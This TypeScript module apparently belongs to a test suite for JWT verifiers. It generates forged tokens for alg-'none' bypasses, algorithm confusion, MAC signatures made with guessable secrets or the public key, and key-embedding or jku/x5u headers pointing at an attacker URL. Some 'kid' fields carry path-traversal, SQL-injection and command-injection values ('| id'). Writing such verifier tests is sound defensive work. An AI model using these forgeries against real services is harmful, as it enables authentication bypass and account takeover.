import { createHmac, type KeyObject } from 'node:crypto'
import { CLAIMS } from '../../core/sample-token.js'
import { newPrivateKey } from '../../support/new-key.js'
import { encode, type Victim } from './victims.js'

/** What the forgery is, and the forged token. */
export type Forgery = readonly [name: string, token: string]

const macWith =
  (key: string | Buffer, hash = 'sha256') =>
  (input: string): string =>
    createHmac(hash, key).update(input).digest('base64url')

const UNSIGNED = ['none', 'None', 'NONE', 'nOnE', 'none ', ' none', 'none\u0000', 'nоne', '', null, undefined]

/** CVE-2015-9235 and its many returns. */
export function withoutSignature({ header, token, valid }: Victim): Forgery[] {
  const signature = valid.split('.')[2] ?? ''
  return [...UNSIGNED, ['none'], { none: 1 }, 0, false, true].flatMap((alg): Forgery[] =>
    [{ ...header, alg }, { alg }, { alg, typ: 'JWT' }].flatMap((forged): Forgery[] => {
      const input = `${encode(forged)}.${encode(CLAIMS)}`
      const name = `the header ${JSON.stringify(forged)}`
      return [
        [`${name}, an empty signature`, `${input}.`],
        [`${name}, no third part`, input],
        [`${name}, the signature of another token`, `${input}.${signature}`],
        [`${name}, a right signature`, token(forged)],
      ]
    }),
  )
}

const OTHER_NAMES = [
  'hs256',
  'Hs256',
  'HS384',
  'HS512',
  'RS384',
  'PS256',
  'ES384',
  'ES256K',
  'Ed25519',
  'eddsa',
]

/** The algorithm is the key's: a right signature does not make another name right. */
export function underAnotherName({ algorithm, header, token }: Victim): Forgery[] {
  const names = [...OTHER_NAMES, 'HS256', 'EdDSA', 'ES256', 'RS256'].filter((name) => name !== algorithm)
  const odd = [` ${algorithm}`, `${algorithm} `, `${algorithm}\u0000`, [algorithm], { alg: algorithm }]
  return [...names, ...odd].map((alg): Forgery => [`alg ${JSON.stringify(alg)}`, token({ ...header, alg })])
}

/** The public key in every form in which a careless verifier might hold it as "the key". */
function formsOf(publicKey: KeyObject): [string, string | Buffer][] {
  const spki = publicKey.export({ format: 'pem', type: 'spki' }).toString()
  const der = publicKey.export({ format: 'der', type: 'spki' })
  const jwk = publicKey.export({ format: 'jwk' })
  const numbers = [jwk.x, jwk.y, jwk.n, jwk.e].filter((each) => each !== undefined)
  const point = numbers.map((each) => Buffer.from(each, 'base64url'))
  const forms: [string, string | Buffer][] = [
    ['PEM', spki],
    ['PEM without its last line break', spki.trimEnd()],
    ['PEM with Windows line breaks', spki.replaceAll('\n', '\r\n')],
    ['PEM behind a space', ` ${spki}`],
    ['PEM without line breaks', spki.replaceAll('\n', '')],
    ['the text between the lines of the PEM', spki.replaceAll(/-----.*-----|\n/g, '')],
    ['DER', der],
    ['DER in base64url', der.toString('base64url')],
    ['DER in hexadecimal', der.toString('hex')],
    ['JWK', JSON.stringify(jwk)],
    ['JWK on several lines', JSON.stringify(jwk, null, 2)],
    ['JWK Set', JSON.stringify({ keys: [jwk] })],
    ['its numbers', Buffer.concat(point)],
    ['an uncompressed point', Buffer.concat([Buffer.from([4]), ...point])],
    ...numbers.map((number): [string, string] => ['a number as text', number]),
    ...point.map((number): [string, Buffer] => ['a number as bytes', number]),
  ]
  if (publicKey.asymmetricKeyType !== 'rsa') return forms
  const pkcs1 = publicKey.export({ format: 'pem', type: 'pkcs1' }).toString()
  return [
    ...forms,
    ['PKCS #1 in PEM', pkcs1],
    ['PKCS #1 in PEM without its last line break', pkcs1.trimEnd()],
    ['PKCS #1 in DER', publicKey.export({ format: 'der', type: 'pkcs1' })],
  ]
}

/** CVE-2016-5431, CVE-2023-48223, CVE-2026-34950; and CVE-2026-44351 for what a missing key turns into. */
export function withAGuessableSecret({ header, algorithm, pair }: Victim): Forgery[] {
  const secrets: [string, string | Buffer][] = [
    ['nothing', ''],
    ['a zero byte', '\u0000'],
    ['32 zero bytes', Buffer.alloc(32)],
    ['undefined', 'undefined'],
    ['null', 'null'],
    ['an object as text', '[object Object]'],
    ['a well-known one', 'secret'],
    ...(pair ? [...formsOf(pair.publicKey), ['its kid', pair.jwk.kid] as [string, string]] : []),
  ]
  const headers = [{ ...header, alg: 'HS256' }, { alg: 'HS256', typ: 'JWT' }, header, { alg: algorithm }]
  return secrets.flatMap(([name, secret]) =>
    headers.flatMap((forged): Forgery[] => {
      const input = `${encode(forged)}.${encode(CLAIMS)}`
      return [[`${JSON.stringify(forged)} and a MAC with ${name}`, `${input}.${macWith(secret)(input)}`]]
    }),
  )
}

const KIDS: readonly unknown[] = [
  '../../../../dev/null',
  '/dev/null',
  'file:///dev/null',
  "x' UNION SELECT 'secret",
  "' or '1'='1",
  '| id',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '',
  '\u0000',
  'k'.repeat(3000),
  'A'.repeat(43),
  null,
  0,
  true,
  [],
  {},
  { kid: 'x' },
]

/** RFC 8725 §3.10: the name of a key is the attacker's input. */
export function withMaliciousKid({ header, algorithm, sign, pair }: Victim): Forgery[] {
  const kids = pair ? [...KIDS, [pair.jwk.kid], `${pair.jwk.kid}\u0000`, ` ${pair.jwk.kid}`] : KIDS
  return kids.flatMap((kid): Forgery[] => {
    const name = `kid ${JSON.stringify(kid)?.slice(0, 60)}`
    const input = `${encode({ ...header, kid })}.${encode(CLAIMS)}`
    const forged: Forgery[] = [
      [`${name} and a MAC with nothing`, `${input}.${macWith('')(input)}`],
      [`${name} and a MAC with that text`, `${input}.${macWith(String(kid))(input)}`],
    ]
    // A secret has no name, so whatever a rightly signed HS256 token says there is ignored.
    return algorithm === 'HS256'
      ? forged
      : [...forged, [`${name}, rightly signed`, `${input}.${sign(input)}`]]
  })
}

/** RFC 8725 §3.10, CVE-2018-0114: a key that the token brings along, or says where to fetch. */
export function withItsOwnKey({ header, pair }: Victim, url: string): Forgery[] {
  return (['EdDSA', 'ES256'] as const).flatMap((alg) => {
    const attacker = newPrivateKey(alg)
    const ways: [string, object][] = [
      ['jwk', { jwk: attacker.jwk }],
      ['jwk with our name', { jwk: { ...attacker.jwk, kid: pair?.jwk.kid } }],
      ['jku', { jku: `${url}/jwks.json` }],
      ['x5u', { x5u: `${url}/chain.pem` }],
      ['x5c', { x5c: [attacker.toPkcs8().toString('base64')] }],
      ['all of them', { jwk: attacker.jwk, jku: `${url}/a`, x5u: `${url}/b`, x5c: ['AA=='], x5t: 'AA' }],
    ]
    const kids = [{}, { kid: attacker.kid }, { kid: header.kid }, { kid: `${url}/kid` }]
    return ways.flatMap(([name, extra]) =>
      kids.map((kid): Forgery => {
        const input = `${encode({ alg, typ: 'JWT', ...kid, ...extra })}.${encode(CLAIMS)}`
        return [`${name} of an ${alg} key, kid ${kid.kid}`, `${input}.${attacker.sign(input)}`]
      }),
    )
  })
}

const CRITS: readonly unknown[] = [
  ['exp'],
  ['b64'],
  ['x'],
  [],
  [''],
  ['alg', 'typ'],
  [null],
  'exp',
  '',
  null,
  true,
  false,
  0,
  {},
]

/** RFC 7515 §4.1.11, RFC 7797, CVE-2026-35042. All rightly signed. */
export function withExtensions({ header, token, sign }: Victim): Forgery[] {
  const { email: _, ...undotted } = CLAIMS
  const unencoded = `${encode({ ...header, b64: false, crit: ['b64'] })}.${JSON.stringify(undotted)}`
  return [
    ...CRITS.flatMap((crit): Forgery[] => [
      [`crit ${JSON.stringify(crit)}`, token({ ...header, crit })],
      [`crit ${JSON.stringify(crit)} and what it names`, token({ ...header, crit, exp: 1, x: 1, b64: true })],
    ]),
    ...[false, true, null, 'false', 0].map((b64): Forgery => [`b64 ${b64}`, token({ ...header, b64 })]),
    ['an unencoded payload', `${unencoded}.${sign(unencoded)}`],
  ]
}
